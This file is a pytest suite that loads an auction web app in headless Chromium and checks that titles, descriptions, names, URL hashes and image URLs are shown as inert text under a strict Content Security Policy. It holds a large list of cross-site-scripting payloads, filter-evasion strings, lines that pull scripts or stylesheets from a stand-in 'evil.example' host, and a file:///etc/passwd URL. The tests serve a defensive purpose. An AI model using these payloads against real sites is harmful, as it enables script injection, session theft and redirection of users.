"""Cross-site scripting: every text that somebody else writes (title, description, image_url, currency, the seller, the
bidders' names), in a real browser on the pages of a house without --dev. Texts are shown as they stand: no script runs,
no element appears, and a policy stands behind that (CSP).
"""
import json

import pytest

from attacked_house import House
from browser import Browser, CHROMIUM
from http_wire import request_bytes
from tokens import bearer

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")

PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "</p></li></ul><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert&#40;1)</script>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mtext></p><script>alert(1)</script>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<form action=//evil.example><button>x", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<style>@import '//evil.example/x.css'</style>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<title></title><script>alert(1)</script>", "<!--<script>-->alert(1)", "]]><script>alert(1)</script>",
    "javascript:alert(1)", "'-alert(1)-'", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"",
    "`${alert(1)}`", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "#{alert(1)}", "<%= alert(1) %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028alert(1)\u2029", "\u202e<script>alert(1)</script>", "<\u200bscript>alert(1)</script>", "__proto__", "constructor",
    "</script><script>alert(1)</script>", "<textarea></textarea><script>alert(1)</script>", "<xss id=x tabindex=1 onfocus=alert(1)>",
]
WATCH = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = () => window.ran.push(name);
"""
ELEMENTS = "document.body.querySelectorAll('script, iframe, object, embed, svg, math, img, video, base, meta, style, link, form, " \
           "input, template, details, xss, textarea, noscript, title').length"


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    house = House(tmp_path_factory.mktemp("house"), "--rate-bidder", "off", "--rate-address", "off", "--rate-failures", "off")
    yield house
    house.finish()


@pytest.fixture(scope="module")
def chromium(tmp_path_factory):
    browser = Browser(tmp_path_factory.mktemp("chromium"))
    browser.call("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
    yield browser
    browser.close()


@pytest.fixture
def browser(chromium, house):
    chromium.errors.clear()
    chromium.requested.clear()
    chromium.pictures.clear()
    chromium.open(house.server.url)
    chromium.wait("document.readyState === 'complete' && !!document.querySelector('a.card')")
    yield chromium
    assert chromium.run("window.ran") == [], "a script ran"
    assert [error for error in chromium.errors if "Failed to load resource" not in error] == []
    everything = chromium.requested + chromium.pictures
    assert all(url.startswith(house.server.url) for url in everything), everything


@pytest.fixture(scope="module")
def attacked(house):
    """Payload -> the auction that bears it in every text that takes it."""
    return {payload: house.create(title=payload, description=payload) for payload in PAYLOADS}


def test_titles_in_the_list(house, browser, attacked):
    before = None
    for payload, auction in attacked.items():
        title = f"document.querySelector('a.card[href=\"#{auction}\"] .name')"
        assert browser.wait(f"{title}?.textContent") == payload
        assert browser.run(f"{title}.childElementCount") == 0, payload
        before = before or browser.run(ELEMENTS)
    assert browser.run(ELEMENTS) == before
    assert browser.run("document.querySelectorAll('a.card').length") == len(attacked) + 1


def test_title_and_description_of_the_one_that_is_open(house, browser, attacked):
    plain = house.create(title="A lot", description="as any other")
    browser.run(f"location.hash = '#{plain}'")
    browser.wait("document.querySelector('#description')?.textContent === 'as any other'")
    elements = browser.run(ELEMENTS)
    for payload, auction in attacked.items():
        browser.run(f"location.hash = '#{auction}'")
        browser.wait(f"document.querySelector('#title').textContent === {json.dumps(payload)}")
        assert browser.run("document.querySelector('#description').textContent") == payload
        assert browser.run("document.querySelector('#title').childElementCount + "
                           "document.querySelector('#description').childElementCount") == 0
    assert browser.run(ELEMENTS) == elements
    browser.run("document.querySelector('#language').click()")
    browser.run("document.querySelector('#language').click()")
    assert browser.run(ELEMENTS) == elements


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "'onerror=alert(1)", "[1]/../x", "%3Cscript%3E", "1&token=<img/src/onerror=alert(1)>",
                                     "token=a.b.c", "token=" + "x" * 5000, "javascript:alert(1)", "__proto__", "constructor", "1e9", "-1"],
                         ids=lambda payload: payload[:40])
def test_the_address_behind_the_hash(house, browser, payload):
    """Anybody can send a visitor a link. It leads to a page that there is anyway: the lobby, a room, or that there is none."""
    elements = [browser.run(ELEMENTS)]
    for place, is_there in {"no-such-page": "#not-found", "999999999": ".unseen", "1": "#bid-form"}.items():
        browser.run(f"location.hash = '{place}'")
        browser.wait(f"!!document.querySelector('main {is_there}')")
        elements.append(browser.run(ELEMENTS))
    browser.run(f"location.hash = {json.dumps('#' + payload)}")
    browser.run("new Promise((done) => setTimeout(done, 200))")
    assert browser.run(ELEMENTS) in elements
    assert browser.run("document.querySelectorAll('main script, main iframe, main img').length") == 0


def test_names_that_a_page_would_show(house):
    """Names are bidder ids, so none of these becomes one: neither by a token's sub nor as a seller; on a socket neither."""
    for payload in PAYLOADS:
        if payload in ("__proto__", "constructor"):
            continue
        answer = house.said(bearer(house.token(payload)))
        assert answer.status == 401, payload
        body = json.dumps({"title": "x", "currency": "CNY", "opening_price": 1, "closes_at": "2099-01-01T00:00:00.000Z",
                           "seller": payload}).encode()
        assert house.said(house.operator(), "/v1/auctions", body).status == 400, payload
        currency = json.loads(body) | {"seller": None, "currency": payload}
        assert house.said(house.operator(), "/v1/auctions", json.dumps(currency).encode()).status == 400, payload


def test_names_of_javascript_itself(house, browser):
    auction = house.create()
    browser.run(f"location.hash = '#{auction}'")
    browser.wait("document.querySelector('#title').textContent === 'A lot'")
    for amount, name in ((10000, "__proto__"), (10100, "constructor"), (10200, "toString"), (10300, "a:b@c.d")):
        house.bid(auction, amount, name)
        browser.wait(f"!!document.querySelector('#events li')?.textContent.startsWith('{name} ')")
        browser.wait(f"document.querySelector('#leader').textContent.startsWith('{name} ')")


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:x", "file:///etc/passwd", "ftp://a/b", "blob:https://a/b", "about:blank", "//evil.example/x", "/x", "x",
    "\\\\evil.example\\x", "https:evil.example", "https:/evil.example", "https:\\\\evil.example", "http", "https://", "view-source:https://a",
    "feed:javascript:alert(1)", "https://a/\" onerror=alert(1)", "https://a/<script>", "https://a/\nX", "https://a b/", "https://a/\0"])
def test_image_urls(house, url):
    """http or https, with a host, and nothing in it that would have to be escaped."""
    body = {"title": "x", "currency": "CNY", "opening_price": 1, "closes_at": "2099-01-01T00:00:00.000Z", "image_url": url}
    answer = house.said(house.operator(), "/v1/auctions", json.dumps(body).encode())
    assert answer.status == 400, answer


@pytest.mark.parametrize("target", ["/", "/docs", "/docs/errors"])
def test_the_policy(house, target):
    with house.connect() as connection:
        connection.send(request_bytes("GET", target, host=connection.authority))
        answer = connection.read_response()
    rules = dict(rule.strip().partition(" ")[::2] for rule in answer.header("content-security-policy").split(";"))
    assert rules["default-src"] == "'self'" and "unsafe" not in str(rules) and "script-src" not in rules
    assert (rules["base-uri"], rules["frame-ancestors"], rules["form-action"]) == ("'none'", "'none'", "'self'")
    assert answer.header("x-content-type-options") == "nosniff" and answer.header("referrer-policy") == "no-referrer"


@pytest.mark.parametrize("target", ["/v1/auctions", "/nonsense<script>alert(1)</script>", "/v1/auctions?state=<script>",
                                    "/healthz", "/metrics", "/openapi.json"])
def test_answers_that_are_no_pages(house, browser, target):
    """An answer in JSON that is opened like a page is none: its type says so, and no text of it is run."""
    browser.open(house.server.url + target)
    browser.wait("document.readyState === 'complete'")
    assert browser.run("document.contentType") != "text/html"


def test_the_policy_bites(house, browser):
    """A script that got in all the same would not run."""
    browser.run("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')")
    browser.run("{ const each = document.createElement('script'); each.textContent = 'alert(1)'; document.body.append(each); }")
    browser.run("new Promise((done) => setTimeout(done, 100))")
    assert any("Content Security Policy" in error for error in browser.errors)
    browser.errors.clear()
